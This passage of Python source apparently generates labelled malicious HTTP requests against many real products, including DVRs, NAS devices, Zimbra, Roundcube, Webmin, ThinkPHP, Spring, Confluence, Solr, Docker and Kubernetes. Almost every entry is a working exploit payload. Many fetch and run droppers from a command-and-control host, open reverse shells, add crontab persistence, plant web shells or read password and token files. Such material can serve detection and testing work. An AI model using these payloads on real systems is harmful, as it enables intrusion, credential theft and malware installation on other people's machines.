              '<addressType><enum>ip</enum><enum>iprange</enum><enum>mac</enum></addressType></types>'
              '<content><switch>true</switch><filterType type="filterTypeMode">refuse</filterType>'
              '<filterList type="list"><itemType><addressType type="addressType"/></itemType><item>'
              '<switch>true</switch><addressType>ip</addressType><ip>$(nc${IFS}%s${IFS}5555${IFS}-e${IFS}$SHELL&)</ip></item>'
              '</filterList></content></request>' % pick(CNC, k)),
        ctype="application/xml", k=k))
    o.add("lfi", "tvt-nvms1000-20085", request(
        "GET", "/../../../../../../../../../../../../windows/win.ini", "198.51.100.47", k=k))
    # --- JAWS / MVPower DVR /shell
    for i in range(3):
        c = pick(["cd+/tmp;rm+-rf+*;wget+http://%s/jaws;sh+/tmp/jaws" % pick(CNC, k + i),
                  "cd%20/tmp;rm%20-rf%20*;busybox%20wget%20http://" + pick(CNC, k + i) + "/bins/arm7;chmod%20777%20arm7;./arm7%20jaws",
                  "cat+/etc/passwd"], i)
        o.add("rce", "jaws-shell", request(
            "GET", "/shell?" + c, pick(["198.51.100.48:60001", "203.0.113.83", "192.0.2.83:8080"], i), ua="Hello, world", k=k + i))
    # --- AVTECH
    o.add("rce", "avtech-cloudsearch", request(
        "GET", "/cgi-bin/nobody/Search.cgi?action=cloud_search&account=admin&password=admin&ip="
        + quote("127.0.0.1;" + dropper(k, "avtech"), safe=""), "198.51.100.49", k=k))
    o.add("rce", "avtech-7029", request(
        "GET", "/cgi-bin/supervisor/Factory.cgi?action=white_led&brightness=" + quote("$(%s) #" % dropper(k + 1, "avtech"), safe=""),
        "198.51.100.50", k=k + 1))
    o.add("rce", "avtech-cloudsetup", request(
        "GET", "/cgi-bin/supervisor/CloudSetup.cgi?exefile=" + quote("wget http://%s/a -O /tmp/a; sh /tmp/a" % pick(CNC, k + 2), safe=""),
        "198.51.100.51", headers=[["Authorization", "Basic YWRtaW46YWRtaW4="]], k=k))
    # --- Vacron, LILIN, NUUO, Geutebrueck
    o.add("rce", "vacron-board", request(
        "GET", "/board.cgi?cmd=" + quote(dropper(k + 3, "vacron"), safe="/:;"), "198.51.100.52", k=k))
    o.add("rce", "lilin-ntp", request(
        "POST", "/dvr/cmd", "198.51.100.53",
        headers=[["Authorization", "Basic YWRtaW46UGFzczEyMzQ="]],
        body=('<?xml version="1.0" encoding="UTF-8"?><DVR Platform="Hi3520"><SetConfiguration File="service.xml">'
              '<![CDATA[<?xml version="1.0" encoding="UTF-8"?><DVR Platform="Hi3520"><Service><NTP Enable="True" Interval="20" '
              'Server="time.nist.gov&%s;echo "/></Service></DVR>]]></SetConfiguration></DVR>' % dropper(k + 4, "lilin")),
        ctype="text/xml", k=k))
    o.add("rce", "nuuo-debug", request(
        "GET", "/__debugging_center_utils___.php?log=;" + quote(pick(["id", "cat /etc/passwd", dropper(k, "nuuo")], k), safe="/;"),
        "198.51.100.54", k=k))
    o.add("rce", "nuuo-ntp", request(
        "GET", "/handle_daylightsaving.php?act=update&NTPServer=" + quote("pool.ntp.org;" + dropper(k + 5, "nuuo"), safe=""),
        "198.51.100.55", k=k))
    o.add("rce", "geutebrueck-testaction", request(
        "GET", "/uapi-cgi/viewer/testaction.cgi?type=ip&ip=" + quote("eth0;" + dropper(k + 6, "geu"), safe=""),
        "198.51.100.56", headers=[["Authorization", "Basic cm9vdDphZG1pbg=="]], k=k))

    # --- QNAP
    o.add("lfi", "qnap-utilrequest", request(
        "GET", "/cgi-bin/filemanager/utilRequest.cgi?func=get_viewer&source_path=/../../etc&source_file=shadow", "nas.example.net", k=k))
    o.add("lfi", "qnap-7192", request(
        "POST", "/photo/p/api/video.php", "nas.example.net",
        headers=[["Cookie", "QMS_SID=ipb8gvn6nupa3hmkl0r4a14mq6"]],
        body="album=cJinsP&a=caption&ac=qbvwbxqz&f=UMGObv&filename=" + quote_plus("./../../../../../share/CACHEDEV1_DATA/.qpkg/photostation2/config.php"),
        ctype="application/x-www-form-urlencoded", k=k + 1))
    o.add("rce", "qnap-shellshock", request(
        "GET", "/cgi-bin/authLogin.cgi", "198.51.100.57:8080",
        ua="() { :; }; /bin/rm -rf /tmp/S0.sh && /bin/mkdir -p /share/HDB_DATA/.../ && /usr/bin/wget -c http://%s/S0.sh -P /tmp && /bin/sh /tmp/S0.sh &" % pick(CNC, k),
        k=k))
    o.add("rce", "qnap-quick-47218", request(
        "POST", "/cgi-bin/quick/quick.cgi?func=switch_os&todo=uploaf_firmware_image", "nas.example.net",
        body=multipart([('name="file"; filename="a\\";%s;#"' % dropper(k + 1, "qnap").replace('"', ""), "x", ["Content-Type: application/octet-stream"])],
                       BOUNDARIES[1]),
        ctype="multipart/form-data; boundary=" + BOUNDARIES[1], k=k))
    # --- Synology: event scheduler abused with stolen admin session
    o.add("rce", "synology-scheduler", request(
        "POST", "/webapi/entry.cgi", "ds.example.com",
        headers=[["X-SYNO-TOKEN", "qA8vVdBmQ.QzU"], ["Cookie", "id=Xl7tJ8m2yD9kq1vN3Q0nHzA4; did=Vg9P"]],
        body=form([("api", "SYNO.Core.EventScheduler"), ("method", "create"), ("version", "1"),
                   ("task_name", '"sys-sync"'), ("owner", '"root"'), ("event", '"bootup"'), ("enable", "true"),
                   ("depend_on_task", '""'), ("notify_enable", "false"),
                   ("operation", '"%s"' % ("wget -qO- http://%s/s|sh" % pick(CNC, k))), ("operation_type", '"script"')]),
        ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k))
    # --- Western Digital My Cloud / My Book Live
    o.add("generic", "wd-17153", request(
        "GET", "/cgi-bin/network_mgr.cgi?cmd=cgi_get_ipv6&flag=1", "mycloud.example.com",
        headers=[["Cookie", "isAdmin=1; username=admin"]], k=k))
    o.add("rce", "wd-mybooklive-18472", request(
        "PUT", "/api/1.0/rest/language_configuration", "mybook.example.com",
        body="language=en_US`" + dropper(k + 2, "wd") + "`", ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "wd-google-analytics", request(
        "GET", "/web/google_analytics.php?cmd=set&opt=cloud-device-analytics&arg=" + quote('0"|id;"', safe=""),
        "mycloud.example.com", k=k + 1))
    o.add("rce", "wd-mycloud-login", request(
        "POST", "/cgi-bin/login_mgr.cgi", "198.51.100.58",
        body="cmd=wd_login&username=admin%22+%7C%7C+" + quote_plus(dropper(k + 3, "wd")) + "+%7C%7C+%22&pwd=YWRtaW4%3D&port=",
        ctype="application/x-www-form-urlencoded", k=k))
    # --- TerraMaster, Seagate
    o.add("rce", "terramaster-28188", request(
        "GET", "/include/makecvs.php?Event=" + quote("`%s`" % dropper(k + 4, "tnas"), safe=""), "tnas.example.com", k=k))
    o.add("generic", "terramaster-24990", request(
        "GET", "/module/api.php?mobile/webNasIPS", "tnas.example.com",
        headers=[["User-Device", "TNAS"]], ua="TNAS", k=k))
    o.add("rce", "seagate-blackarmor", request(
        "GET", "/backupmgt/localJob.php?session=fail;" + quote(dropper(k + 5, "sg"), safe="/:;"), "198.51.100.59", k=k))


def attacks_apps(o):
    k = o.k
    # --- Zimbra
    bd = BOUNDARIES[2]
    o.add("lfi", "zimbra-27925", request(
        "POST", "/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1", "mail.example.com",
        body=multipart([('name="file"; filename="x.zip"',
                         "PK\x03\x04 ../../../../mailboxd/webapps/zimbraAdmin/0MVzAe6pgwe5go1D.jsp "
                         '<%@ page import="java.util.*,java.io.*"%><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
                         ["Content-Type: application/zip"])], bd),
        ctype="multipart/form-data; boundary=" + bd, k=k))
    o.add("xxe", "zimbra-9670", request(
        "POST", "/Autodiscover/Autodiscover.xml", "mail.example.com",
        body=('<!DOCTYPE xxe [<!ELEMENT name ANY ><!ENTITY xxe SYSTEM "file:../conf/localconfig.xml" >]>'
              '<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a">'
              '<Request><EMailAddress>aaaaa</EMailAddress><AcceptableResponseSchema>&xxe;</AcceptableResponseSchema>'
              '</Request></Autodiscover>'),
        ctype="application/xml", k=k))
    o.add("ssrf", "zimbra-proxy", request(
        "GET", "/service/proxy?target=https://127.0.0.1:7071/service/admin/soap", "mail.example.com",
        headers=[["Cookie", "ZM_ADMIN_AUTH_TOKEN=0_6f3a2e"], ["Host", "mail.example.com:7071"]], k=k))
    # --- Roundcube
    ser = 'O:16:"Crypt_GPG_Engine":1:{S:26:"\\00Crypt_GPG_Engine\\00_gpgconf";S:%d:"%s;#";}' % (
        len("echo " + b64("id") + "|base64 -d|sh") + 2, "echo " + b64("id") + "|base64 -d|sh")
    o.add("php", "roundcube-49113", request(
        "POST", "/?_from=edit-" + quote("!" + ser, safe="") + "&_task=settings&_framed=1&_remote=1&_id=1&_uploadid=1&_unlock=1&_action=upload",
        "webmail.example.com",
        headers=[["Cookie", "roundcube_sessid=7c1b9e2d4f6a; roundcube_sessauth=S3b2"], ["X-Requested-With", "XMLHttpRequest"]],
        body=multipart([('name="_file[]"; filename="x.png"', "\x89PNG\r\n\x1a\n", ["Content-Type: image/png"])], BOUNDARIES[3]),
        ctype="multipart/form-data; boundary=" + BOUNDARIES[3], k=k))
    o.add("rce", "roundcube-12641", request(
        "POST", "/installer/index.php", "webmail.example.com",
        body=form([("_step", "2"), ("_product_name", "Roundcube"), ("_im_convert_path", "php -r '$s=fsockopen(\"%s\",9001);exec(\"/bin/sh -i <&3 >&3 2>&3\");' #" % pick(CNC, k)),
                   ("submit", "UPDATE CONFIG")]),
        ctype="application/x-www-form-urlencoded", k=k))
    # --- hosting panels
    o.add("xss", "cpanel-29489", request(
        "GET", "/cpanelwebcall/%3Cimg%20src=x%20onerror=%22prompt(document.domain)%22%3Eaaaaaaaaaaaa", "host.example.com:2082", k=k))
    o.add("rce", "webmin-15107", request(
        "POST", "/password_change.cgi", "host.example.com:10000",
        headers=[["Referer", "https://host.example.com:10000/session_login.cgi"], ["Cookie", "redirect=1; testing=1; sid=x"]],
        body="user=rootxx&pam=&expired=2&old=test%7C" + quote_plus(pick(["id", dropper(k, "webmin")], k)) + "&new1=test2&new2=test2",
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "webmin-36446", request(
        "POST", "/package-updates/update.cgi", "host.example.com:10000",
        headers=[["Referer", "https://host.example.com:10000/package-updates/?xnavigation=1"], ["Cookie", "redirect=1; testing=1; sid=3d8a7f"]],
        body="mode=new&search=ssh&redir=&redirdesc=&u=0%3Becho%20" + quote(b64("bash -c 'bash -i >& /dev/tcp/%s/4443 0>&1'" % pick(CNC, k)), safe="")
             + "%7Cbase64%20-d%7Cbash%3B&u=ssh&ok_top=Update+Selected+Packages",
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "cwp-44877", request(
        "POST", "/login/index.php?login=$(echo${IFS}" + quote(b64("curl http://%s/c|sh" % pick(CNC, k + 1)), safe="") + "${IFS}|${IFS}base64${IFS}-d${IFS}|${IFS}bash)",
        "panel.example.com:2031",
        body="username=root&password=toor&commit=Login", ctype="application/x-www-form-urlencoded", k=k))
    o.add("php", "ispconfig-46818", request(
        "POST", "/admin/language_edit.php", "panel.example.com:8080",
        headers=[["Cookie", "ISPCSESS=9b0f7e6d5c4b3a29"]],
        body="lang=en&module=help&lang_file=xq.lng&_csrf_id=3f1e&_csrf_key=a9c2&records%5B%5C%5D=" + quote_plus("'];file_put_contents('sh.php',base64_decode('%s'));die;#" % b64("<?php system($_GET['c']); ?>")),
        ctype="application/x-www-form-urlencoded", k=k))
    # --- Apache OFBiz
    o.add("generic", "ofbiz-51467", request(
        "POST", "/webtools/control/ping?USERNAME&PASSWORD=test&requirePasswordChange=Y", "erp.example.com:8443",
        body="", ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "ofbiz-38856", request(
        "POST", "/webtools/control/forgotPassword;/ProgramExport", "erp.example.com:8443",
        body="groovyProgram=" + quote_plus("throw new Exception('id'.execute().text);"), ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "ofbiz-51467", request(
        "POST", "/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y", "203.0.113.90:8443",
        body="groovyProgram=" + quote_plus("def c='\\u0063\\u0075\\u0072\\u006c http://%s/o.sh -o /tmp/o';c.execute();" % pick(CNC, k)),
        ctype="application/x-www-form-urlencoded", k=k + 1))
    o.add("java", "ofbiz-9496", request(
        "POST", "/webtools/control/xmlrpc", "erp.example.com:8443",
        body=('<?xml version="1.0"?><methodCall><methodName>ProjectDiscovery</methodName><params><param><value><struct><member>'
              '<name>test</name><value><serializable xmlns="http://ws.apache.org/xmlrpc/namespaces/extensions">'
              'rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3DAAAAAI/QAAAAAAAAXNyADRvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMua2V5dmFsdWUuVGllZE1hcEVudHJ5'
              '</serializable></value></member></struct></value></param></params></methodCall>'),
        ctype="text/xml", k=k))
    # --- ThinkPHP
    o.add("php", "thinkphp-invokefunction", request(
        "GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21",
        "198.51.100.60", k=k))
    o.add("php", "thinkphp-invokefunction", request(
        "GET", "/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=shell_exec&vars%5B1%5D%5B%5D="
        + quote("wget http://%s/tp.sh -O /tmp/tp.sh; sh /tmp/tp.sh" % pick(CNC, k), safe=""), "203.0.113.91", k=k + 1))
    o.add("php", "thinkphp-captcha", request(
        "POST", "/index.php?s=captcha", "198.51.100.61",
        body="_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=" + quote_plus("echo '<?php eval($_POST[x]);?>' > x.php"),
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("php", "thinkphp-lang-pearcmd", request(
        "GET", "/index.php?+config-create+/&lang=../../../../../../../../usr/local/lib/php/pearcmd&/<?=phpinfo()?>+/tmp/hello.php",
        "198.51.100.62", k=k))
    o.add("php", "thinkphp-request-input", request(
        "GET", "/index.php?s=index/think%5Crequest/input&filter=phpinfo&data=1", "198.51.100.63", k=k))
    # --- Laravel Ignition CVE-2021-3129
    o.add("php", "ignition-3129", request(
        "POST", "/_ignition/execute-solution", "app.example.com",
        body=jdump({"solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
                    "parameters": {"variableName": "username",
                                   "viewFile": "php://filter/write=convert.quoted-printable-decode|convert.iconv.utf-16le.utf-8|convert.base64-decode/resource=../storage/logs/laravel.log"}}),
        ctype="application/json", k=k))
    o.add("php", "ignition-3129", request(
        "POST", "/_ignition/execute-solution", "203.0.113.92",
        body=jdump({"solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
                    "parameters": {"variableName": "x", "viewFile": "phar://../storage/logs/laravel.log/test.txt"}}),
        ctype="application/json", k=k + 1))
    # --- Spring
    o.add("java", "spring-gateway-22947", request(
        "POST", "/actuator/gateway/routes/hacktest", "gw.example.io",
        body=jdump({"id": "hacktest", "filters": [{"name": "AddResponseHeader", "args": {
            "name": "Result", "value": "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"}}],
            "uri": "http://example.com"}),
        ctype="application/json", k=k))
    o.add("java", "spring-gateway-22947", request(
        "POST", "/actuator/gateway/routes/x0", "203.0.113.93:8080",
        body=jdump({"predicates": [{"name": "Path", "args": {"_genkey_0": "/x0/**"}}],
                    "filters": [{"name": "RewritePath", "args": {"_genkey_0": "#{T(java.lang.Runtime).getRuntime().exec(\"curl http://%s/g -o /tmp/g\")}" % pick(CNC, k), "_genkey_1": "/${path}"}}],
                    "uri": "http://127.0.0.1", "order": 0}),
        ctype="application/json", k=k + 1))
    o.add("java", "spring-function-22963", request(
        "POST", "/functionRouter", "fn.example.io",
        headers=[["spring.cloud.function.routing-expression", 'T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")']],
        body="data", ctype="text/plain", k=k))
    o.add("java", "spring4shell", request(
        "POST", "/greeting", "app.example.io:8080",
        headers=[["suffix", "%>//"], ["c1", "Runtime"], ["c2", "<%"], ["DNT", "1"]],
        body="class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di"
             "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
             "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=",
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("lfi", "actuator-probe", request("GET", "/actuator/heapdump", "api.example.io", k=k))
    o.add("lfi", "actuator-probe", request("GET", "/actuator/env", "203.0.113.94:8080", k=k + 1))
    # --- Atlassian
    o.add("java", "confluence-26134", request(
        "GET", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/",
        "wiki.example.com", k=k))
    o.add("java", "confluence-26134", request(
        "GET", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22" + quote("curl http://%s/cf -o /tmp/cf" % pick(CNC, k), safe="") + "%22%29%7D/",
        "203.0.113.95:8090", k=k + 1))
    o.add("generic", "confluence-22515", request(
        "GET", "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false", "wiki.example.com", k=k))
    o.add("java", "confluence-22527", request(
        "POST", "/template/aui/text-inline.vm", "wiki.example.com",
        body="label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet(\\u0027ognl\\u0027).findValue(#parameters.x,{})%2b\\u0027"
             "&x=@org.apache.struts2.ServletActionContext@getResponse().setHeader('X-Cmd-Response',(new freemarker.template.utility.Execute()).exec({'id'}))",
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("ssrf", "jira-8451", request(
        "GET", "/plugins/servlet/gadgets/makeRequest?url=https://jira.example.com:443@169.254.169.254/latest/meta-data/iam/security-credentials/",
        "jira.example.com", headers=[["X-Atlassian-Token", "no-check"]], k=k))
    # --- TeamCity
    o.add("generic", "teamcity-42793", request(
        "POST", "/app/rest/users/id:1/tokens/RPC2", "ci.example.com:8111", body="", ctype="application/x-www-form-urlencoded", k=k))
    o.add("generic", "teamcity-27198", request(
        "POST", "/hax?jsp=/app/rest/users;.jsp", "ci.example.com:8111",
        body=jdump({"username": "svc_ci", "password": "Ci#2024!!", "email": "svc@example.com", "roles": {"role": [{"roleId": "SYSTEM_ADMIN", "scope": "g"}]}}),
        ctype="application/json", k=k))
    o.add("rce", "teamcity-debug", request(
        "POST", "/app/rest/debug/processes?exePath=/bin/sh&params=-c&params=" + quote("echo ZWNobyBoaQ==|base64 -d|sh", safe=""),
        "ci.example.com:8111", headers=[["Authorization", "Bearer eyJ0eXAiOiAiVENWMiJ9.Rm9v.QmFy"]], body="", ctype="text/plain", k=k))
    # --- GitLab ExifTool CVE-2021-22205
    djvu = ('AT&TFORM\x00\x00\x01\x00DJVMDIRM\x00\x00\x00\x2e\x81\x00\x02\x00\x00\x00\x46\x00\x00\x00\xacANTa\x00\x00\x00\x58'
            '(metadata\n\t(Copyright "\\\n" . qx{%s} . \\\n" b ") )' % ("curl -s http://%s/gl | sh" % pick(CNC, k)))
    o.add("rce", "gitlab-22205", request(
        "POST", "/uploads/user", "git.example.com",
        headers=[["X-CSRF-Token", "Jm3k0dUeS9U0sBqJxWb6v6XhZ5l1P8YtP9gE2yQwR7g="]],
        body=multipart([('name="file"; filename="test.jpg"', djvu, ["Content-Type: image/jpeg"])], BOUNDARIES[0]),
        ctype="multipart/form-data; boundary=" + BOUNDARIES[0], k=k))
    # --- Struts
    o.add("java", "struts-s2-045", request(
        "GET", "/index.action", "portal.example.com",
        headers=[["Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):"
                  "((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))"
                  ".(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm))))"
                  ".(#cmd='id').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))"
                  ".(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds))"
                  ".(#p.redirectErrorStream(true)).(#process=#p.start())}"]], k=k))
    o.add("java", "struts-s2-057", request(
        "GET", "/struts2-showcase/%24%7B%28111%2B111%29%7D/actionChain1.action", "portal.example.com", k=k))
    bd = BOUNDARIES[1]
    o.add("lfi", "struts-50164", request(
        "POST", "/upload.action", "portal.example.com",
        body=multipart([('name="Upload"; filename="x.jsp"', '<% out.println("ok"); %>', ["Content-Type: text/plain"]),
                        ('name="uploadFileName"', "../../x.jsp", [])], bd),
        ctype="multipart/form-data; boundary=" + bd, k=k))
    # --- Solr
    o.add("ssti", "solr-17558", request(
        "GET", "/solr/core0/select?q=1&&wt=velocity&v.template=custom&v.template.custom="
        + quote("#set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) #set($chr=$x.class.forName('java.lang.Character')) "
                "#set($str=$x.class.forName('java.lang.String')) #set($ex=$rt.getRuntime().exec('id')) $ex.waitFor() "
                "#set($out=$ex.getInputStream()) #foreach( $i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end", safe=""),
        "solr.example.com:8983", k=k))
    o.add("generic", "solr-17558-config", request(
        "POST", "/solr/core0/config", "solr.example.com:8983",
        body=jdump({"update-queryresponsewriter": {"startup": "lazy", "name": "velocity", "class": "solr.VelocityResponseWriter",
                                                   "template.base.dir": "", "solr.resource.loader.enabled": "true",
                                                   "params.resource.loader.enabled": "true"}}),
        ctype="application/json", k=k))
    o.add("rce", "solr-0193", request(
        "POST", "/solr/core0/dataimport?command=full-import&verbose=false&clean=false&commit=false&debug=true&core=core0&name=dataimport&dataConfig="
        + quote('<dataConfig><dataSource type="URLDataSource"/><script><![CDATA[function poc(row){ var p=java.lang.Runtime.getRuntime().exec("id"); return row; }]]></script>'
                '<document><entity name="e" url="https://www.example.com/" processor="XPathEntityProcessor" forEach="/feed" transformer="script:poc"/></document></dataConfig>', safe=""),
        "solr.example.com:8983", body="", ctype="application/x-www-form-urlencoded", k=k))
    o.add("java", "solr-log4shell", request(
        "GET", "/solr/admin/cores?action=" + quote("${jndi:ldap://%s:1389/a}" % pick(CNC, k), safe="") + "&wt=json",
        "solr.example.com:8983", k=k))
    # --- Druid
    o.add("rce", "druid-25646", request(
        "POST", "/druid/indexer/v1/sampler", "druid.example.com:8888",
        body=jdump({"type": "index", "spec": {"ioConfig": {"type": "index", "firehose": {"type": "local", "baseDir": "/etc", "filter": "passwd"}},
                                               "dataSchema": {"dataSource": "test", "parser": {"parseSpec": {"format": "javascript", "timestampSpec": {},
                                                   "dimensionsSpec": {}, "function": "function(){var a = new java.util.Scanner(java.lang.Runtime.getRuntime().exec([\"sh\",\"-c\",\"id\"]).getInputStream()).useDelimiter(\"\\\\A\").next();return {timestamp:123123,test: a}}",
                                                   "": {"enabled": "true"}}}}}, "samplerConfig": {"numRows": 10}}),
        ctype="application/json", k=k))
    o.add("java", "druid-25194", request(
        "POST", "/druid/indexer/v1/sampler?for=connect", "druid.example.com:8888",
        body=jdump({"type": "kafka", "spec": {"type": "kafka", "ioConfig": {"type": "kafka", "consumerProperties": {
            "bootstrap.servers": "127.0.0.1:6666", "sasl.mechanism": "SCRAM-SHA-256", "security.protocol": "SASL_SSL",
            "sasl.jaas.config": "com.sun.security.auth.module.JndiLoginModule required user.provider.url=\"ldap://%s:1389/Basic/Command/base64/aWQ=\" useFirstPass=\"true\" serviceName=\"x\" debug=\"true\" group.provider.url=\"xxx\";" % pick(CNC, k)},
            "topic": "test", "useEarliestOffset": True}}}),
        ctype="application/json", k=k))
    # --- Elasticsearch
    o.add("java", "es-1427", request(
        "POST", "/_search?pretty", "es.example.com:9200",
        body=jdump({"size": 1, "script_fields": {"lupin": {"lang": "groovy", "script": "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\").getText()"}}}),
        ctype="application/json", k=k))
    o.add("java", "es-3120", request(
        "GET", "/_search?source=" + quote(jdump({"size": 1, "query": {"filtered": {"query": {"match_all": {}}}},
                                                 "script_fields": {"x": {"script": "import java.io.*;new java.util.Scanner(Runtime.getRuntime().exec(\"cat /etc/passwd\").getInputStream()).useDelimiter(\"\\\\A\").next();"}}}), safe=""),
        "es.example.com:9200", k=k))
    # --- Docker / Kubernetes / YARN / APISIX
    o.add("rce", "docker-api", request(
        "POST", "/v1.41/containers/create", "203.0.113.96:2375",
        body=jdump({"Image": "alpine", "Cmd": ["chroot", "/mnt", "sh", "-c", "echo '* * * * * root curl -s http://%s/d.sh | sh' >> /etc/crontab" % pick(CNC, k)],
                    "HostConfig": {"Binds": ["/:/mnt"], "Privileged": True, "NetworkMode": "host"}}),
        ctype="application/json", ua="Docker-Client/20.10.21 (linux)", k=k))
    o.add("rce", "docker-api", request(
        "POST", "/containers/3f1c2b8a9d7e/exec", "198.51.100.64:2375",
        body=jdump({"AttachStdout": True, "AttachStderr": True, "Tty": False,
                    "Cmd": ["sh", "-c", "wget -q http://%s/xmr.sh -O- | sh" % pick(CNC, k + 1)]}),
        ctype="application/json", ua="Go-http-client/1.1", k=k + 1))
    o.add("rce", "kubelet-run", request(
        "POST", "/run/kube-system/kube-proxy-8x7zq/kube-proxy", "203.0.113.97:10250",
        body="cmd=" + quote_plus("cat /var/run/secrets/kubernetes.io/serviceaccount/token"), ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "k8s-hostpath-pod", request(
        "POST", "/api/v1/namespaces/default/pods", "203.0.113.98:6443",
        body=jdump({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "kube-sys-check"},
                    "spec": {"hostPID": True, "hostNetwork": True, "containers": [{"name": "c", "image": "alpine",
                             "command": ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh", "-c", "curl http://%s/k|sh" % pick(CNC, k)],
                             "securityContext": {"privileged": True}}],
                             "volumes": [{"name": "h", "hostPath": {"path": "/"}}]}}),
        ctype="application/json", ua="kubectl/v1.28.2 (linux/amd64) kubernetes/89a4ea3", k=k))
    o.add("rce", "yarn-unauth", request(
        "POST", "/ws/v1/cluster/apps", "203.0.113.99:8088",
        body=jdump({"application-id": "application_1712345678901_0001", "application-name": "get-shell",
                    "am-container-spec": {"commands": {"command": "/bin/bash -c 'curl -fsSL http://%s/y.sh | bash'" % pick(CNC, k)}},
                    "application-type": "YARN"}),
        ctype="application/json", k=k))
    o.add("rce", "apisix-13945", request(
        "POST", "/apisix/admin/routes", "gw.example.io:9080",
        headers=[["X-API-KEY", "edd1c9f034335f136f87ad84b625c8f1"]],
        body=jdump({"uri": "/x1", "script": "local _M = {} \n function _M.access(conf, ctx) \n local os = require('os')\n local args = assert(ngx.req.get_uri_args()) \n local f = assert(io.popen(args.cmd, 'r'))\n local s = assert(f:read('*a'))\n ngx.say(s)\n f:close()  \n end \nreturn _M",
                    "upstream": {"type": "roundrobin", "nodes": {"example.com:80": 1}}}),
        ctype="application/json", k=k))
    # --- Exchange on the edge (ProxyShell)
    o.add("ssrf", "exchange-proxyshell", request(
        "GET", "/autodiscover/autodiscover.json?@example.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@example.com",
        "owa.example.com", k=k))
    o.add("ssrf", "exchange-proxyshell", request(
        "POST", "/autodiscover/autodiscover.json?@example.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBdBZG1pbmlzdHJhdG9yQGV4YW1wbGUuY29t&Email=autodiscover/autodiscover.json%3F@example.com",
        "owa.example.com", body="", ctype="application/soap+xml;charset=UTF-8", k=k + 1))


def attacks_probes(o):
    k = o.k
    # --- web shell probes and PHP CGI
    shells = [
        ("GET", "/cmd.php?cmd=" + quote("wget http://%s/p -O /tmp/p; sh /tmp/p" % pick(CNC, k), safe=""), None),
        ("GET", "/shell.php?cmd=id", None),
        ("POST", "/alfa.php", "a=RmlsZXNNYW4%3D&c=L3Zhci93d3c%3D&p1=&p2=&p3=&charset=UTF-8&alfa1=id"),
        ("GET", "/c99.php?act=cmd&cmd=uname+-a", None),
        ("POST", "/.well-known/acme-challenge/wso.php", "pass=wso&a=Console&c=&p1=" + quote_plus("cat /etc/passwd") + "&p2=&p3=&charset=UTF-8"),
        ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "<?php echo md5('phpunit'); system('id'); ?>"),
        ("GET", "/cgi-bin/webshell.cgi?cmd=cat%20/etc/shadow", None),
        ("POST", "/upl.php", "c=" + quote_plus("system('curl -s http://%s/w|sh');" % pick(CNC, k + 1))),
        ("GET", "/images/x.php?x=" + quote("echo shell_exec('id');", safe=""), None),
    ]
    for i, (m, p, body) in enumerate(shells):
